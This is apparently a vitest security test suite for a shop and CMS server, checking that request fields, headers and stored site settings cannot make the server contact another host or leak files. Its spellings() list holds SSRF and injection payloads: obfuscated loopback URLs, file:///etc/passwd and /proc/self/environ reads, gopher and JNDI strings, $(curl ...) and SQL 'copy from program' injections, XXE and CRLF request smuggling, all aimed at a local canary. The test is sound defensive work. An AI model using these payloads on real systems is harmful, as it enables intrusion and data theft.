import { readdir, readFile } from "node:fs/promises";
import { Agent, request as httpRequest, type OutgoingHttpHeaders } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import openapi from "../../openapi.json" with { type: "json" };
import { BundleError } from "../../server/src/features/bundle/bundle-error.ts";
import { startSandbox, type Sandbox } from "../../sandbox/src/index.ts";
import { contactForm, submitter } from "../kit/form-site.ts";
import { cms, shop, startServer, type TestServer, type TestSite } from "../kit/harness.ts";
import { sendRaw } from "../kit/raw.ts";
import { sampleCatalog } from "../kit/sample-catalog.ts";
import { sampleSite } from "../kit/sample-site.ts";
import { paymentPlugin } from "../kit/till.ts";
import { vitrine } from "../kit/vitrine-process.ts";
import { startAttackedServer, type AttackedServer } from "./attacked-server.ts";
import { startCanary, type Canary } from "./canary.ts";
import type { Payload } from "./payloads.ts";
import { importWithoutRefused, plantedBundle, Planting, previewToken } from "./planted-site.ts";
import { recordAttack } from "./record.ts";

let canary: Canary;
let sandbox: Sandbox;
let server: AttackedServer;
let inProcess: TestServer;
/** From files and the environment: must be in no response. */
let secrets: string[];
const password = "correct horse battery";
const slug = "forged";
const key = `pk_${"f".repeat(32)}`;
const bundle = (site: object = {}) => ({
  ...{ bundle: 1, ...sampleCatalog(), ...sampleSite(), forms: [contactForm()], apiKeys: [{ name: "web", key }] },
  plugins: { ...paymentPlugin(), "svc.forms": { enabled: true, config: { notify: ["owner@shop.example"] } } },
  site: { slug, name: "Forged", defaultLocale: "en", locales: ["en", "de", "pt-BR"], currency: "eur", ...site },
});
beforeAll(async () => {
  canary = await startCanary();
  sandbox = await startSandbox({ port: 0, host: "127.0.0.1", endpointsOf: async () => [] });
  server = await startAttackedServer({
    ...{ PROCESSOR_API_URL: `http://127.0.0.1:${sandbox.port}`, RATE_LIMITS: "off", TRUST_PROXY: "127.0.0.1" },
  });
  const imported = await vitrine(["site", "import", "-"], server.env, JSON.stringify(bundle()));
  if (imported.code !== 0) throw new Error(imported.stderr);
  inProcess = await startServer({ mailsPerClient: 1_000_000, submissionsPerClient: 1_000_000 });
  secrets = [(await readFile("/etc/passwd", "utf8")).split("\n")[0] ?? "none", server.env.SECRET_KEY ?? "none"];
}, 180_000);
afterAll(async () => {
  await inProcess.stop();
  await server.remove();
  await sandbox.close();
  await canary.close();
});

/** The address of the canary in every spelling that some parser accepts, and other ways out of a process. */
function spellings(): string[] {
  const at = `:${canary.port}`;
  const hosts = [
    "127.0.0.1",
    "localhost",
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "127.1",
    "0",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "127.0.0.1.nip.io",
  ];
  return [
    ...hosts.map((host) => `http://${host}${at}/fetched`),
    ...[`https://127.0.0.1${at}/`, `//127.0.0.1${at}/`, `\\\\127.0.0.1${at}\\x`, `127.0.0.1${at}`, `localhost${at}`, `http:127.0.0.1${at}`],
    ...[`http://shop.example@127.0.0.1${at}/`, `http://127.0.0.1${at}#@shop.example/`, `http://shop.example\\@127.0.0.1${at}/`],
    ...[`http://①②⑦.⓪.⓪.①${at}/`, `http://127。0。0。1${at}/`, `HTTP://127.0.0.1${at}/%0d%0aX:%20y`],
    ...[`http://127.0.0.1${at}/ HTTP/1.1\r\nHost: x\r\n\r\nGET /second HTTP/1.1\r\nHost: x\r\n\r\n`],
    ...["file:///etc/passwd", "file://localhost/proc/self/environ", "/etc/passwd", "../../../../../../etc/passwd", "/proc/self/environ"],
    ...[
      `gopher://127.0.0.1${at}/_GET%20/`,
      `ftp://127.0.0.1${at}/x`,
      `dict://127.0.0.1${at}/`,
      `ldap://127.0.0.1${at}/`,
      `redis://127.0.0.1${at}/`,
    ],
    ...[
      `ws://127.0.0.1${at}/`,
      `postgres://127.0.0.1${at}/x`,
      `smtp://127.0.0.1${at}`,
      `jar:http://127.0.0.1${at}!/x`,
      `unix:/run/x.sock:/`,
    ],
    ...[
      "data:text/html,x",
      `view-source:http://127.0.0.1${at}`,
      `ana@[127.0.0.1]`,
      `ana@localhost${at}`,
      `ana@127.0.0.1`,
      `"|curl http://127.0.0.1${at}"@x.example`,
    ],
    ...[
      `\${jndi:ldap://127.0.0.1${at}/a}`,
      `{{fetch('http://127.0.0.1${at}')}}`,
      `$(curl http://127.0.0.1${at})`,
      `\`curl 127.0.0.1${at}\``,
    ],
    ...[
      `<!DOCTYPE x [<!ENTITY y SYSTEM "http://127.0.0.1${at}/">]><x>&y;</x>`,
      `<img src=http://127.0.0.1${at}/>`,
      `![x](http://127.0.0.1${at}/)`,
    ],
    ...[
      `@import url(http://127.0.0.1${at}/)`,
      `require('http').get('http://127.0.0.1${at}')`,
      `';copy x from program 'curl 127.0.0.1${at}';--`,
    ],
  ];
}

interface Schema {
  properties?: Record<string, Schema>;
  required?: string[];
}
interface Operation {
  operationId: string;
  security?: Record<string, unknown>[];
  parameters?: { in: string; name: string }[];
  requestBody?: { content: Record<string, { schema?: Schema }> };
}
const operations = Object.entries(openapi.paths as Record<string, Record<string, Operation>>).flatMap(([path, methods]) =>
  Object.entries(methods).map(([method, operation]) => ({ path, method: method.toUpperCase(), ...operation })),
);

type Json = string | number | boolean | null | Json[] | { [name: string]: Json };
const uuid = "00000000-0000-4000-8000-000000000000";
const urls = { successUrl: "https://shop.example/thanks", cancelUrl: "https://shop.example/cart" };
const names = { firstName: "Ana", lastName: "Berg", phone: "+47 1" };

/** A valid request of each operation, for a change of one field. */
function bodies(variantId: string): Record<string, Json> {
  const order = {
    ...{ customerId: uuid, customerEmail: "ana@customer.example", items: [{ variantId, quantity: 1 }], tax: 0, shipping: 0 },
    ...{ notes: "Ring twice" },
  };
  const payment = { amount: 500, currency: "eur", description: "A chair", metadata: { cart: "one" } };
  return {
    startSignup: { siteName: "New", siteSlug: "new-§", email: "owner-§@new.example", password },
    resendCode: { verificationId: uuid },
    verifySignup: { verificationId: uuid, code: "123456" },
    submitForm: { data: { name: "Ana", email: "ana@customer.example", topic: "order", message: "Hello" } },
    createPaymentIntent: payment,
    createPaymentCheckoutSession: { ...payment, productName: "A chair", ...urls },
    registerCustomer: { email: "new-§@customer.example", password, ...names, verifyUrlBase: "https://shop.example/verify" },
    verifyEmail: { token: "x".repeat(43) },
    requestEmailVerification: { verifyUrlBase: "https://shop.example/verify", email: "ana@customer.example" },
    logIn: { email: "ana@customer.example", password },
    requestPasswordReset: { email: "ana@customer.example", resetUrlBase: "https://shop.example/reset" },
    resetPassword: { token: "x".repeat(43), password },
    updateAccount: names,
    changePassword: { currentPassword: "another one", newPassword: password },
    createCheckoutSession: { ...order, ...urls },
    createCheckoutPaymentIntent: order,
    receiveProcessorEvent: {
      id: "evt_1",
      type: "checkout.session.completed",
      created: 1,
      data: { object: { id: "cs_1", url: "https://x.example/" } },
    },
  };
}
const paths: Record<string, string> = { slug: "home", contentTypeSlug: "blog-post", id: uuid, siteSlug: slug, token: previewToken(0) };
/** Slugs of operations other than pages. */
const slugs: Record<string, string> = {
  ...{ getForm: "contact", submitForm: "contact", getEntry: "first", getBlogPost: "first" },
  ...{ getProductBySlug: "fjell-chair", getCategoryBySlug: "chairs" },
};
/** Headers that proxies and browsers add, and that a server may act on. */
const harmless = [
  ...["x-forwarded-host", "x-forwarded-proto", "x-forwarded-port", "x-forwarded-prefix", "x-real-ip", "x-client-ip", "true-client-ip"],
  ...["x-original-url", "x-rewrite-url", "x-original-host", "x-host", "x-wap-profile", "x-callback-url", "forwarded", "via", "referer"],
  ...[
    "user-agent",
    "cookie",
    "accept-language",
    "tracestate",
    "traceparent",
    "baggage",
    "from",
    "link",
    "destination",
    "x-http-method-override",
  ],
];
const decisive = [
  "host",
  "origin",
  "x-forwarded-for",
  "authorization",
  "x-api-key",
  "content-type",
  "idempotency-key",
  "if-none-match",
  "accept",
];

/** Each text within a value, with a way to change it. */
function texts(value: Json, put: (changed: Json) => Json = (changed) => changed): ((text: string) => Json)[] {
  if (typeof value === "string") return [put];
  if (Array.isArray(value)) return value.flatMap((item, at) => texts(item, (changed) => put(value.with(at, changed))));
  if (value === null || typeof value !== "object") return [];
  return Object.entries(value).flatMap(([name, item]) => texts(item, (changed) => put({ ...value, [name]: changed })));
}

const agent = new Agent({ keepAlive: true, maxSockets: 8 });
let sent = 0;
interface Forged {
  method: string;
  path: string;
  headers: OutgoingHttpHeaders;
  body?: Json | undefined;
}
function send({ method, path, headers, body }: Forged): Promise<{ status: number; text: string }> {
  sent += 1;
  const number = sent;
  const text = body === undefined ? undefined : JSON.stringify(body).replaceAll("§", String(number));
  return new Promise((resolve, reject) => {
    const client = `203.0.${Math.floor(number / 250) % 250}.${(number % 250) + 1}`;
    const outgoing = httpRequest(
      { port: server.port, host: "127.0.0.1", method, path, agent, headers: { "x-forwarded-for": client, ...headers } },
      (response) => {
        const chunks: Buffer[] = [];
        response.on("data", (chunk: Buffer) => chunks.push(chunk));
        response.on("end", () => resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString("utf8") }));
        response.on("error", reject);
      },
    );
    outgoing.on("error", reject).end(text);
  });
}

const faults: string[] = [];
function judge(what: string, { status, text }: { status: number; text: string }): void {
  if (status >= 500 || status < 200) faults.push(`${what}: ${status} ${text.slice(0, 200)}`);
  for (const secret of secrets) if (text.includes(secret)) faults.push(`${what}: tells a secret`);
}

test("no text of a request makes the server call another host", { timeout: 300_000 }, async (context) => {
  const common = { "x-api-key": key, "content-type": "application/json", host: `127.0.0.1:${server.port}` };
  const ask = async (method: string, path: string, body?: Json) => {
    const { status, text } = await send({ method, path, headers: common, body });
    if (status > 299) throw new Error(`${method} ${path}: ${status} ${text}`);
    return (JSON.parse(text) as { data: Record<string, string> }).data;
  };
  await ask("POST", `${shop}/auth/register`, { email: "ana@customer.example", password });
  const { token = "" } = await ask("POST", `${shop}/auth/login`, { email: "ana@customer.example", password });
  const lamp = (await ask("GET", `${shop}/products/slug/lykt-lamp`)) as unknown as { variants: { id: string }[] };
  const base = bodies(lamp.variants[0]?.id ?? "");

  const fields = new Set<string>();
  const statuses = new Map<number, number>();
  const all: (() => Promise<void>)[] = [];
  const plan = (field: string, forged: Forged) => {
    fields.add(field);
    all.push(async () => {
      const answer = await send(forged);
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      judge(`${field} of ${forged.method} ${forged.path}`, answer);
    });
  };
  for (const { path, method, operationId, security, parameters = [], requestBody } of operations) {
    const isOwn = security?.some((way) => "customerToken" in way) === true;
    const mustBeOwn = security?.every((way) => "customerToken" in way) === true;
    const headers = {
      ...common,
      ...(isOwn && (mustBeOwn || operationId === "createCheckoutSession") ? { authorization: `Bearer ${token}` } : {}),
    };
    const body = base[operationId];
    // A new field is attacked with the rest, or the test demands an example for it.
    const { schema } = requestBody?.content["application/json"] ?? {};
    if (requestBody && operationId !== "receiveProcessorEvent")
      expect([operationId, Object.keys(body ?? {}).sort()]).toEqual([operationId, Object.keys(schema?.properties ?? {}).sort()]);
    const pathWith = (changed: Record<string, string>) =>
      path.replace(
        /\{(\w+)\}/g,
        (_all, name: string) => changed[name] ?? (name === "slug" ? slugs[operationId] : undefined) ?? paths[name] ?? "x",
      );
    const own = operationId === "createCheckoutSession" && body !== undefined ? { ...(body as Record<string, Json>) } : body;
    // A signed-in customer is asked for their own account only.
    if (own !== undefined && operationId === "createCheckoutSession") Reflect.deleteProperty(own as object, "customerId");
    const right = { method, path: pathWith({}), headers, body: own };
    for (const [number, spelling] of spellings().entries()) {
      const inHeader = encodeURI(spelling).replace(/%20/g, " ");
      plan(`${operationId} harmless headers`, {
        ...right,
        headers: { ...Object.fromEntries(harmless.map((name) => [name, inHeader])), ...headers },
      });
      // A third of them for each, each for some operation: all of them would take minutes.
      for (const [at, name] of decisive.entries())
        if ((number + at + operationId.length) % 3 === 0)
          plan(`${operationId} ${name}`, { ...right, headers: { ...headers, [name]: inHeader } });
      for (const { name, in: place } of parameters) {
        const changed = encodeURIComponent(spelling);
        plan(`${operationId} ${name}`, {
          ...right,
          path: place === "path" ? pathWith({ [name]: changed }) : `${pathWith({})}?${name}=${changed}`,
        });
      }
      plan(`${operationId} any parameter`, {
        ...right,
        path: `${pathWith({})}?url=${encodeURIComponent(spelling)}&callback=${encodeURIComponent(spelling)}`,
      });
      if (own === undefined) continue;
      texts(own).forEach((put, at) => plan(`${operationId} body ${at}`, { ...right, body: put(spelling) }));
    }
  }
  const one = async () => {
    for (let next = all.pop(); next !== undefined; next = all.pop()) await next();
  };
  await Promise.all(Array.from({ length: 8 }, one));

  // Targets that no library sends.
  for (const spelling of spellings()) {
    for (const line of [`GET ${spelling} HTTP/1.1`, `CONNECT ${spelling} HTTP/1.1`, `OPTIONS ${spelling} HTTP/1.1`]) {
      const answer = await sendRaw(server.port, `${line}\r\nHost: 127.0.0.1:${canary.port}\r\nConnection: close\r\n\r\n`, 100);
      sent += 1;
      if (/^HTTP\/1.1 5/m.test(answer) && !/^HTTP\/1.1 50[15]/m.test(answer)) faults.push(`${line}: ${answer.slice(0, 100)}`);
    }
  }
  // The jobs run by themselves: they send all requested mails.
  const mailed = async () => (await readdir(join(server.env.DATA_DIR ?? "", "mail"))).length;
  await expect.poll(mailed, { timeout: 30_000 }).toBeGreaterThan(20);
  agent.destroy();
  console.log(`${sent} requests, ${fields.size} fields, ${await mailed()} mails: ${JSON.stringify([...statuses].sort())}`);
  expect([...new Set(faults)].slice(0, 20)).toEqual([]);
  expect(canary.heard().slice(1)).toEqual([]);
  // Many of them were accepted unchanged: a field that refuses all was not tested.
  expect((statuses.get(200) ?? 0) + (statuses.get(201) ?? 0) + (statuses.get(202) ?? 0)).toBeGreaterThan(2_000);
  recordAttack(context, {
    ...{
      attack: "Addresses of a listener, in every parameter, header and text of every operation",
      unit: `requests, to ${fields.size} fields`,
      tried: sent,
    },
    held: "the listener had no connection, no response contained a file, none was 5xx but 501 and 505 for impossible targets",
  });
});

test("no text of a stored site makes the server call another host", { timeout: 300_000 }, async (context) => {
  const list: Payload[] = spellings().map((text, at) => ({ number: at + 1, context: text, text: text.slice(0, 300) }));
  const plantedKey = `pk_${"p".repeat(32)}`;
  await importWithoutRefused(inProcess, plantedBundle(list, "planted", plantedKey), new Planting());
  let reads = 0;
  const read = async (path: string, site: Pick<TestSite, "key"> = { key: plantedKey }) => {
    reads += 1;
    const answer = await inProcess.ask(path, { key: site.key });
    judge(path, answer);
    return answer;
  };
  for (const locale of ["en", "de", "pt-BR"]) {
    const pages = (await read(`${cms}/pages?pageSize=100&locale=${locale}`)).json as { data: { slug: string }[] };
    expect(pages.data.length).toBeGreaterThan(5);
    for (const { slug } of pages.data) await read(`${cms}/pages/${slug}?locale=${locale}`);
    for (const type of ["blog-post", "guide"]) await read(`${cms}/content/${type}?locale=${locale}`);
  }
  const products = (await read(`${shop}/products?pageSize=100`)).json as { data: { id: string; slug: string }[] };
  expect(products.data.length).toBeGreaterThan(5);
  for (const { id } of products.data) await read(`${shop}/products/${id}`);
  for (const path of [`${shop}/categories?tree=true`, `${shop}/subscriptions/plans`, `${cms}/block-types`]) await read(path);
  for (const { number } of list) await read(`${cms}/plugins/svc.forms/forms/form-${number}`);
  for (const at of [0, 1]) await read(`${cms}/preview/${previewToken(at)}`);

  // Settings, one at a time: most are refused, and the others are mailed, shown and linked to.
  let stored = 0;
  let refused = 0;
  for (const { text } of list) {
    const sites = [
      ...[
        { storefrontUrl: text },
        { allowedOrigins: [text] },
        { name: text.slice(0, 80) },
        { settings: { mail: { senderName: text.slice(0, 100) } } },
      ],
      ...[{ settings: { forms: { notify: [text] } } }],
    ].map((site) => ({ site, plugins: {} }));
    const plugins = [{ "svc.forms": { enabled: true, config: { notify: [text] } } }].map((plugin) => ({ site: {}, plugins: plugin }));
    for (const { site, plugins: more } of [...sites, ...plugins]) {
      const made = await inProcess
        .addSite({ ...sampleSite(), site: { ...(sampleSite().site as object), ...site }, forms: [contactForm()], plugins: more })
        .catch((error: unknown) => {
          if (!(error instanceof BundleError)) throw error;
          refused += 1;
        });
      if (!made) continue;
      stored += 1;
      await read(`${cms}/pages/home`, made);
      await submitter(inProcess, made)({ name: "Ana", email: "ana@customer.example", message: text });
      const body = JSON.stringify({ email: `ana-${stored}@customer.example`, password, verifyUrlBase: text.slice(0, 2_000) });
      const headers = { "content-type": "application/json" };
      judge("register", await inProcess.ask(`${shop}/auth/register`, { method: "POST", key: made.key, headers, body }));
      for (const page of ["verify-email", "reset-password", "not-me"])
        judge(page, await inProcess.ask(`/sites/${made.slug}/${page}?token=${encodeURIComponent(text)}`));
    }
  }
  await inProcess.runTasks();
  expect(inProcess.mails.length).toBeGreaterThan(30);
  expect(faults).toEqual([]);
  expect(canary.heard().slice(1)).toEqual([]);
  console.log(`${reads} reads, ${stored} sites stored, ${refused} refused, ${inProcess.mails.length} mails`);
  recordAttack(context, {
    ...{
      attack: "Addresses of a listener, in every text of a stored site and its settings",
      unit: "reads, mails and sites",
      tried: reads + inProcess.mails.length + stored + refused,
    },
    held: "the listener had no connection, no response contained a file, none was 5xx",
  });
});
